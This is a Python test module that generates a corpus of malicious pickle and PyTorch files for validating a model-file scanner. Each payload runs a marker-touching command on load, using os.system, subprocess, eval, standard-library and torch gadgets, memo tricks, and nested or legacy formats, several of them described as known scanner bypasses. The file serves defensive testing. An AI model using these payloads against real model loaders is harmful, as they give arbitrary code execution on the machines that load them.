"""The malicious pickle corpus: payloads that run a command under ``pickle.load`` or
``torch.load(weights_only=False)``, built at test time byte by byte.

Each payload is built for a *marker* path: when loaded, it creates that file (through a
shell command or Python code), so a throwaway interpreter can prove that it really runs
(``tests/validate/test_pickle_corpus.py``). The test process never loads them.
Run ``python -m tests.validate.pickle_corpus DIR`` to write the files for inspection.
"""

from __future__ import annotations

import marshal
import pickle
import sys
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from tests.validate.pickle_asm import (
    BUILD,
    EMPTY_DICT,
    EMPTY_TUPLE,
    MEMOIZE,
    NONE,
    REDUCE,
    STACK_GLOBAL,
    TORCH_LEGACY_MAGIC,
    binbytes,
    call,
    get,
    legacy,
    legacy_tar,
    p2,
    p4,
    put,
    short,
    stack_global,
    text_global,
    torch_zip,
    tup,
    uni,
)


@dataclass(frozen=True)
class Payload:
    """One malicious file: *build(marker)* gives its bytes; *suffix* says how it is loaded
    (``.pkl``: pickle.load, ``.pt``: torch.load of the path); *proof* whether it runs its
    command in this environment (else *why* not); *code* the finding it must get."""

    name: str
    family: str
    build: Callable[[str], bytes]
    suffix: str = ".pkl"
    code: str = "pickle.dangerous-global"
    proof: bool = True
    why: str = ""


def sh(marker: str) -> str:
    return f"touch '{marker}'"


def py(marker: str) -> str:
    return f"open({marker!r}, 'w').close()"


def os_expression(marker: str) -> str:
    return f"__import__('os').system({sh(marker)!r})"


def lst(*items: bytes) -> bytes:
    return b"](" + b"".join(items) + b"e"


def os_system(marker: str) -> bytes:
    """The classic: posix.system(cmd), protocol 2."""
    return p2(call(text_global("posix", "system"), uni(sh(marker))))


def _shell_list(marker: str) -> bytes:
    return lst(uni("sh"), uni("-c"), uni(sh(marker)))


def _marshalled(marker: str) -> bytes:
    code = marshal.dumps(compile(py(marker), "<payload>", "exec"))
    function = call(
        text_global("types", "FunctionType"),
        call(text_global("marshal", "loads"), binbytes(code)),
        EMPTY_DICT,
    )
    return PROTO3 + function + EMPTY_TUPLE + REDUCE + b"."


PROTO3 = b"\x80\x03"
F = Payload
CORPUS: tuple[Payload, ...] = (
    # --- direct calls of command-running functions ------------------------------------
    F("os-system-text", "direct", lambda m: b"cos\nsystem\n(V" + sh(m).encode() + b"\ntR."),
    F("posix-system-p2", "direct", os_system),
    F("os-system-stack-global", "direct",
      lambda m: p4(call(stack_global("os", "system"), short(sh(m))))),
    F("subprocess-popen", "direct",
      lambda m: p2(call(text_global("subprocess", "Popen"), _shell_list(m)))),
    F("subprocess-check-output", "direct",
      lambda m: p2(call(text_global("subprocess", "check_output"), _shell_list(m)))),
    F("subprocess-getoutput", "direct",
      lambda m: p2(call(text_global("subprocess", "getoutput"), uni(sh(m))))),
    F("os-popen", "direct", lambda m: p2(call(text_global("os", "popen"), uni(sh(m))))),
    F("os-spawnlp", "direct", lambda m: p2(call(
        text_global("os", "spawnlp"), b"K\x00", uni("touch"), uni("touch"), uni(m)))),
    F("nt-system", "direct", lambda m: p2(call(text_global("nt", "system"), uni(sh(m)))),
      proof=False, why="Windows only"),
    # --- builtins ---------------------------------------------------------------------
    F("builtins-eval", "builtins",
      lambda m: p2(call(text_global("builtins", "eval"), uni(os_expression(m))))),
    F("py2-builtin-eval", "builtins",
      lambda m: p2(call(text_global("__builtin__", "eval"), uni(os_expression(m))))),
    F("builtins-exec-p4", "builtins",
      lambda m: p4(call(stack_global("builtins", "exec"), short(py(m))))),
    F("builtins-compile-exec", "builtins", lambda m: p2(call(
        text_global("builtins", "exec"),
        call(text_global("builtins", "compile"), uni(py(m)), uni("x"), uni("exec"))))),
    F("builtins-open-write", "builtins",
      lambda m: p2(call(text_global("builtins", "open"), uni(m), uni("w")))),
    F("getattr-import-chain", "builtins", lambda m: p2(
        call(text_global("builtins", "getattr"),
             call(text_global("builtins", "__import__"), uni("os")), uni("system"))
        + tup(uni(sh(m))) + REDUCE)),
    # --- the list: names a first-part denylist misses ---------------------------
    F("torch-os-system", "issue",
      lambda m: p4(call(stack_global("torch", "os.system"), short(sh(m))))),
    F("pathlib-os-system", "issue",
      lambda m: p4(call(stack_global("pathlib", "os.system"), short(sh(m))))),
    F("collect-env-run", "issue",
      lambda m: p2(call(text_global("torch.utils.collect_env", "run"), uni(sh(m))))),
    F("pydoc-pipepager", "issue",
      lambda m: p2(call(text_global("pydoc", "pipepager"), uni("x"), uni(sh(m))))),
    F("cprofile-run", "issue", lambda m: p2(call(text_global("cProfile", "run"), uni(py(m))))),
    F("profile-run", "issue", lambda m: p2(call(text_global("profile", "run"), uni(py(m))))),
    F("osx-support-read-output", "issue",
      lambda m: p2(call(text_global("_osx_support", "_read_output"), uni(sh(m))))),
    F("imaplib-imap4-stream", "issue",
      lambda m: p2(call(text_global("imaplib", "IMAP4_stream"), uni(sh(m))))),
    F("fx-forward-from-src", "issue", lambda m: p2(call(
        text_global("torch.fx.graph_module", "_forward_from_src"), uni(py(m)), EMPTY_DICT))),
    F("uuid-get-command-stdout", "issue",
      lambda m: p2(call(text_global("uuid", "_get_command_stdout"), uni("touch"), uni(m)))),
    # --- dotted names that start with an allowed module or class -----------------------
    F("torch-utils-os-system", "dotted",
      lambda m: p4(call(stack_global("torch._utils", "os.system"), short(sh(m))))),
    F("torch-serialization-os-system", "dotted",
      lambda m: p4(call(stack_global("torch.serialization", "os.system"), short(sh(m))))),
    F("argparse-os-system", "dotted",
      lambda m: p4(call(stack_global("argparse", "_os.system"), short(sh(m)))),
      code="pickle.unlisted-global"),
    F("pathlib-path-write-text", "dotted", lambda m: p4(call(
        stack_global("pathlib", "Path.write_text"),
        call(stack_global("pathlib", "PosixPath"), short(m)), short("x"))),
      code="pickle.unlisted-global"),
    F("ordered-dict-globals", "dotted", lambda _: p4(call(
        stack_global("builtins", "dict.get"),
        stack_global("collections", "OrderedDict.__init__.__globals__"), short("_sys"))),
      code="pickle.unlisted-global", proof=False, why="reaches a module, calls nothing"),
    # --- gadgets in the standard library and torch (known scanner bypasses) ------------
    F("idlelib-get-entity", "gadget", lambda m: p4(call(
        stack_global("idlelib.autocomplete", "AutoComplete.get_entity"),
        b"N", short(os_expression(m))))),
    F("lib2to3-grammar-loads", "gadget", lambda m: p4(call(
        stack_global("lib2to3.pgen2.grammar", "Grammar.loads"),
        stack_global("lib2to3.pgen2.grammar", "Grammar") + EMPTY_TUPLE + REDUCE,
        binbytes(os_system(m))))),
    F("runpy-run-code", "gadget",
      lambda m: p2(call(text_global("runpy", "_run_code"), uni(py(m)), EMPTY_DICT))),
    F("timeit-setup", "gadget", lambda m: p2(call(
        text_global("timeit", "timeit"), uni("pass"), uni(py(m)), NONE, b"K\x01"))),
    F("jit-exec-wrapper", "gadget", lambda m: p2(call(
        text_global("torch.jit.unsupported_tensor_ops", "execWrapper"),
        uni(py(m)), EMPTY_DICT, EMPTY_DICT))),
    F("numpy-runstring", "gadget", lambda m: p2(call(
        text_global("numpy.testing._private.utils", "runstring"), uni(py(m)), EMPTY_DICT))),
    F("shutil-copyfile", "gadget",
      lambda m: p2(call(text_global("shutil", "copyfile"), uni("/dev/null"), uni(m)))),
    F("webbrowser-open", "gadget",
      lambda _: p2(call(text_global("webbrowser", "open"), uni("http://127.0.0.1:9/"))),
      proof=False, why="would start a browser"),
    F("ctypes-cdll", "gadget",
      lambda _: p2(call(text_global("ctypes", "CDLL"), uni("libc.so.6"))),
      proof=False, why="loads a library, runs no command"),
    F("functools-partial", "gadget", lambda m: p2(
        call(text_global("functools", "partial"), text_global("posix", "system"), uni(sh(m)))
        + EMPTY_TUPLE + REDUCE)),
    F("operator-methodcaller", "gadget", lambda m: p2(
        call(text_global("operator", "methodcaller"), uni("system"), uni(sh(m)))
        + tup(call(text_global("builtins", "__import__"), uni("os"))) + REDUCE)),
    F("nested-pickle-loads", "gadget",
      lambda m: p4(call(stack_global("_pickle", "loads"), binbytes(os_system(m))))),
    F("marshal-function", "gadget", _marshalled),
    # --- allowed rebuild functions fed a dangerous argument -----------------------------
    F("rebuild-from-type-exec", "allowed-callable", lambda m: p2(call(
        text_global("torch._tensor", "_rebuild_from_type_v2"),
        text_global("builtins", "exec"), text_global("torch", "Tensor"),
        tup(uni(py(m))), EMPTY_DICT))),
    F("reconstructor-popen", "allowed-callable", lambda m: p2(call(
        text_global("copyreg", "_reconstructor"), text_global("subprocess", "Popen"),
        text_global("subprocess", "Popen"), _shell_list(m)))),
    F("rebuild-from-type-load-from-bytes", "allowed-callable", lambda m: p4(call(
        stack_global("torch._tensor", "_rebuild_from_type_v2"),
        stack_global("torch.storage", "_load_from_bytes"), stack_global("torch", "Tensor"),
        tup(binbytes(torch_zip(os_system(m)))), EMPTY_DICT))),
    F("rebuild-from-type-class-as-function", "allowed-callable", lambda _: p2(call(
        text_global("torch._tensor", "_rebuild_from_type_v2"),
        text_global("torch.nn.modules.linear", "Linear"), text_global("torch", "Tensor"),
        tup(b"K\x01", b"K\x01"), EMPTY_DICT)),
      code="pickle.unlisted-global", proof=False, why="calls a torch.nn constructor, no command"),
    F("codecs-other-codec", "allowed-callable", lambda _: p2(call(
        text_global("_codecs", "encode"), uni("x"), uni("rot13"))),
      code="pickle.unsafe-operation", proof=False, why="decodes text, runs nothing"),
    # --- memo tricks --------------------------------------------------------------------
    F("memo-put-get", "memo", lambda m: p2(
        text_global("posix", "system") + put(1) + b"0" + get(1) + tup(uni(sh(m))) + REDUCE)),
    F("memo-overwrite", "memo", lambda m: p2(
        text_global("collections", "OrderedDict") + put(1) + b"0"
        + text_global("posix", "system") + put(1) + b"0" + get(1) + tup(uni(sh(m))) + REDUCE)),
    F("memo-stack-global-strings", "memo", lambda m: p4(
        short("os") + MEMOIZE + b"0" + short("system") + MEMOIZE + b"0"
        + get(0) + get(1) + STACK_GLOBAL + tup(short(sh(m))) + REDUCE)),
    F("memo-dup", "memo", lambda m: p2(
        text_global("posix", "system") + b"2" + b"0" + tup(uni(sh(m))) + REDUCE)),
    F("memo-long-keys", "memo", lambda m: p2(
        text_global("posix", "system") + b"r\xa0\x86\x01\x00" + b"0"
        + b"j\xa0\x86\x01\x00" + tup(uni(sh(m))) + REDUCE)),
    F("memo-text-put-get", "memo",
      lambda m: b"cos\nsystem\np0\n0g0\n(V" + sh(m).encode() + b"\ntR."),
    F("memo-key-string-reused", "memo", lambda m: p4(
        EMPTY_DICT + short("os") + MEMOIZE + short("system") + MEMOIZE + b"s0"
        + get(0) + get(1) + STACK_GLOBAL + tup(short(sh(m))) + REDUCE)),
    # --- protocols 0 and 1 --------------------------------------------------------------
    F("inst-opcode", "protocol-0", lambda m: b"(V" + sh(m).encode() + b"\nios\nsystem\n."),
    F("obj-opcode", "protocol-0", lambda m: b"(cos\nsystem\nV" + sh(m).encode() + b"\no."),
    F("py2-commands-module", "protocol-0",
      lambda m: p2(call(text_global("commands", "getoutput"), uni(sh(m))))),
    F("protocol-1-no-proto", "protocol-0",
      lambda m: call(text_global("posix", "system"), uni(sh(m))) + b"."),
    F("proto-switch", "protocol-0", lambda m: b"\x80\x02\x80\x04"
      + call(stack_global("os", "system"), short(sh(m))) + b"."),
    F("text-strings-stack-global", "protocol-0",
      lambda m: b"Vos\nVsystem\n\x93(V" + sh(m).encode() + b"\ntR."),
    # --- imports the pickle hides ---------------------------------------------------------
    F("ext1-code", "hidden", lambda m: p2(b"\x82\x01" + tup(uni(sh(m))) + REDUCE),
      code="pickle.unverifiable-global", proof=False, why="the extension registry is empty"),
    F("ext4-code", "hidden", lambda m: p2(b"\x84\x01\x00\x00\x00" + tup(uni(sh(m))) + REDUCE),
      code="pickle.unverifiable-global", proof=False, why="the extension registry is empty"),
    F("computed-stack-global", "hidden", lambda m: p4(
        call(stack_global("builtins", "str"), short("os")) + short("system") + STACK_GLOBAL
        + tup(short(sh(m))) + REDUCE), code="pickle.unverifiable-global"),
    # --- changes of globals ---------------------------------------------------------------
    F("build-on-class", "tampering", lambda _: p2(
        text_global("torch.nn.modules.module", "Module")
        + tup(NONE, EMPTY_DICT + uni("__call__") + text_global("collections", "Counter") + b"s")
        + BUILD), code="pickle.unsafe-operation", proof=False, why="changes torch, runs nothing"),
    F("setitem-environ", "tampering", lambda m: p2(
        text_global("os", "environ") + uni("MAR_CORPUS_TAMPERED") + uni(m) + b"s"),
      proof=False, why="sets an environment variable"),
    F("append-sys-path", "tampering",
      lambda m: p2(text_global("sys", "path") + uni(m) + b"a"),
      proof=False, why="extends the import path"),
    # --- pickles nested in torch files ------------------------------------------------------
    F("torch-zip-data-pkl", "nested", lambda m: torch_zip(os_system(m)), suffix=".pt"),
    F("torch-zip-upper-case-name", "nested",
      lambda m: torch_zip(os_system(m), name="archive/DATA.PKL"), suffix=".pt"),
    F("torch-zip-fake-code-dir", "nested", lambda m: torch_zip(
        os_system(m), extra={"archive/code/__torch__.py": b"def f(): pass\n"}), suffix=".pt"),
    F("torch-zip-constants-pkl", "nested", lambda m: torch_zip(
        os_system(m), extra={"archive/constants.pkl": p2(EMPTY_TUPLE)}), suffix=".pt",
      proof=False, why="torch.jit.load's C++ unpickler refuses the global"),
    F("torch-zip-debug-pkl", "nested", lambda m: torch_zip(
        p2(EMPTY_DICT), extra={"archive/code/__torch__.py.debug_pkl": os_system(m)}),
      suffix=".pt",
      proof=False, why="torch.load does not read .debug_pkl"),
    F("load-from-bytes-zip", "nested", lambda m: p4(call(
        stack_global("torch.storage", "_load_from_bytes"), binbytes(torch_zip(os_system(m)))))),
    F("load-from-bytes-legacy-p2", "nested", lambda m: p2(call(
        text_global("torch.storage", "_load_from_bytes"),
        call(text_global("_codecs", "encode"),
             uni(legacy(os_system(m)).decode("latin-1")), uni("latin1"))))),
    F("load-from-bytes-twice", "nested", lambda m: p4(call(
        stack_global("torch.storage", "_load_from_bytes"), binbytes(torch_zip(p4(call(
            stack_global("torch.storage", "_load_from_bytes"),
            binbytes(torch_zip(os_system(m)))))))))),
    # --- torch's legacy formats ---------------------------------------------------------------
    F("legacy-sys-info", "legacy", lambda m: legacy(p2(EMPTY_DICT), sys_info=os_system(m)),
      suffix=".pt"),
    F("legacy-object", "legacy", lambda m: legacy(os_system(m)), suffix=".pt"),
    F("legacy-storage-keys", "legacy", lambda m: legacy(p2(EMPTY_DICT), keys=os_system(m)),
      suffix=".pt"),
    F("legacy-computed-magic", "legacy", lambda m: p2(call(
        text_global("builtins", "eval"),
        uni(f"(__import__('os').system({sh(m)!r}), {TORCH_LEGACY_MAGIC})[1]")))
      + legacy(p2(EMPTY_DICT))[len(pickle.dumps(TORCH_LEGACY_MAGIC, protocol=2)):],
      suffix=".pt"),
    F("legacy-module-persistent-id", "legacy", lambda m: legacy(p2(
        tup(uni("module"), text_global("posix", "system"), NONE, NONE) + b"Q"
        + tup(uni(sh(m))) + REDUCE)), suffix=".pt"),
    F("legacy-tar-pickle", "legacy", lambda m: legacy_tar(obj=os_system(m)), suffix=".pt"),
    F("legacy-tar-storages", "legacy", lambda m: legacy_tar(
        obj=p2(EMPTY_DICT), storages=os_system(m)), suffix=".pt"),
    F("legacy-tar-tensors", "legacy", lambda m: legacy_tar(
        obj=p2(EMPTY_DICT), tensors=os_system(m)), suffix=".pt"),
)  # fmt: skip


def main(argv: list[str]) -> int:
    out = Path(argv[1] if len(argv) > 1 else "pickle-corpus")
    out.mkdir(parents=True, exist_ok=True)
    for payload in CORPUS:
        marker = f"/tmp/pickle-corpus-marker-{payload.name}"
        (out / f"{payload.name}{payload.suffix}").write_bytes(payload.build(marker))
    print(f"wrote {len(CORPUS)} files to {out}")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
